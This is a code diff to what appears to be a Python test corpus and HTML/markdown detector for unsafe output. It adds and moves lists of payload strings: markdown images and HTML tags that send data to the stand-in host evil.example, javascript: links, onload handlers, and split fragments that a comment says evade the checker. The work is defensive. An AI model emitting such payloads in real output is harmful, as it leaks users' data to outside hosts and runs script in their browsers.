@@ -17,7 +17,6 @@ PAYLOADS = (
     "![a](\n  https://evil.example/?d=palm\n  'title')",
     "![x](/logout?palm)",
     "![x](//evil.example/palm)",
-    "![x](\\\\evil.example\\palm)",
     "[![x](https://evil.example/palm.svg)](https://evil.example/)",
     "![x][ref]\n\n[ref]: https://evil.example/?d=palm",
     "![ref]\n\n[ref]: <https://evil.example/?d=palm> 'title'",
@@ -30,12 +29,11 @@ PAYLOADS = (
     "[palm][r]\n\n[r]: javascript:alert(1)",
     "<javascript:alert('palm')>",
     "<data:text/html,palm>",
-    "<https://evil.example/?d=secret|palm>",
     "<img src=https://evil.example/?d=palm>",
     "<IMG/SRC='https://evil.example/?d=palm'>",
     '<img alt=">" src="https://evil.example/?d=palm">',
     '<img alt="<" src="https://evil.example/?d=palm">',
-    "\\<img src=https://evil.example/?d=palm>",
+    "\\<b x=\"<img title='\">' src='https://evil.example/palm'>",
     "<svg/onload=alert('palm')>",
     "<x<y onclick=alert(1)>palm",
     "<a href=https://evil.example/?d=secret>palm</a>",
@@ -52,6 +50,23 @@ PAYLOADS = (
     "<!hidden palm>",
     "<?hidden palm?>",
     "` ![x](https://evil.example/?d=palm) `` ![y](https://evil.example/?d=palm)",
+)
+# … and some that act with browsers or chats, though not with the judge below.
+TRICKY = (
+    '<img =" src=https://evil.example/?d=palm x=">',
+    "<img a='>' =\" src=https://evil.example/?d=palm x=\">",
+    "<img t='>' a=b=\" src=https://evil.example/?d=palm x=\">",
+    "\\<img src=https://evil.example/?d=palm>",
+    "<https://evil.example/?d=secret|palm>",
+    "![x](\\\\evil.example\\palm)",
+)
+# Halves: nothing by themselves, an image if the next text goes on.
+HALVES = (
+    "<img alt='palm",
+    '<img alt="palm',
+    "<img palm ",
+    "' src='https://evil.example/'>",
+    "\" src='https://evil.example/'>",
 )
 UNSEEN = (
     "\x1b]8;;https://evil.example/\x07palm\x1b]8;;\x07",
@@ -77,6 +92,7 @@ ORDINARY = (
     "[x] done, [ ] open, [1], [^2], see [the notes](notes/today.md)",
     "[12:30]: Ana came\n[Ana]: hello there, [Ben]: ok",
     "<b>bold</b> and <br> and </div>",
+    "<!DOCTYPE html>\n<html lang='en'><head><meta charset='utf-8'></head>\n<div class=\"a\"><Card title='x' /></div>",
     "👨‍👩‍👧 می‌خواهم עברית\u200f (1) 葛\U000e0100城",
 )
 
@@ -113,7 +129,7 @@ def _acting(token: Token) -> list[str]:
 
 
 _FETCHING = ("src", "href", "data", "poster", "background", "action", "style", "srcset", "http-equiv", "xlink:href")
-_RUNNING = ("script", "style", "iframe", "object", "embed", "meta", "base", "link", "plaintext", "textarea")
+_RUNNING = ("title", "textarea", "style", "xmp", "iframe", "noembed", "noframes", "script", "plaintext")
 
 
 class _Tags(HTMLParser):
@@ -123,7 +139,7 @@ class _Tags(HTMLParser):
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
         names = [name for name, value in attrs if name in _FETCHING or name.startswith("on")]
-        if names or (tag in _RUNNING and (attrs or tag in ("script", "style", "plaintext", "textarea"))):
+        if names or tag in _RUNNING:
             self.found.append(f"<{tag} {' '.join(names)}>")
 
     def handle_comment(self, data: str) -> None:
@@ -133,7 +149,8 @@ class _Tags(HTMLParser):
         self.found.append(f"<?{data}>")
 
     def handle_decl(self, decl: str) -> None:
-        self.found.append(f"<!{decl}>")
+        if decl.lower() != "doctype html":
+            self.found.append(f"<!{decl}>")
 
 
 def _in_html(text: str) -> list[str]:
